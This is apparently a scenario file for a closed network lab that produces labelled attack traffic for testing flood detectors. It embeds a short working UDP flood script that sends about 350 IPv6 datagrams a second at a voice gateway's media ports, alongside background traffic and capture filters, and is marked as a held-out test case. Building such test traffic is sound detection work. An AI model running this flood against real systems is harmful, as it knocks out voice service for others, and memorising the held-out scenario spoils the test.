"""A program that floods by ordinary sockets, as those for everybody do: to the voice ports of a gateway."""

from lab.range import Range
from lab.scenario import Scenario

FLOOD = """
import random, socket, sys, time
sources = [socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) for _ in range(8)]
end, number = time.monotonic() + float(sys.argv[2]), 0
while time.monotonic() < end:
    number += 1
    try:
        sources[number % 8].sendto(b'A flood.' * 60, (sys.argv[1], random.randrange(10000, 20000, 2)))
    except OSError:
        pass  # the victim said that nobody is there
    time.sleep(0.0025)
"""


def run(net: Range) -> None:
    attacker, gateway = net.inside("pc4"), net.inside("voice", 61)
    gateway.start("socat", "UDP6-RECVFROM:5060,fork", "EXEC:cat")
    net.everyday()
    net.loop(net.inside("pc1"), f"printf OPTIONS | socat -t 1 - UDP6:[{gateway.ip6}]:5060", 1.0)
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.4)
    net.quiet(4)
    with net.attack(
        "udp-flood",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[gateway.ip6],
        frames=f"ip6 and udp and dst host {gateway.ip6} and not dst port 5060",
        responses=f"icmp6 and src host {gateway.ip6} and dst host {attacker.ip6}",
    ):
        net.tool(attacker, "/usr/bin/python3", "-c", FLOOD, gateway.ip6, "8")
    net.quiet(3)


SCENARIO = Scenario(
    name="udp-flood-held-voice",
    about="An inside host sends a voice gateway 350 datagrams a second over IPv6, to all its voice ports.",
    detectors=("udp-flood",),
    tools={"socat": "socat"},
    held_out=True,
    snap_octets=70,
    run=run,
)
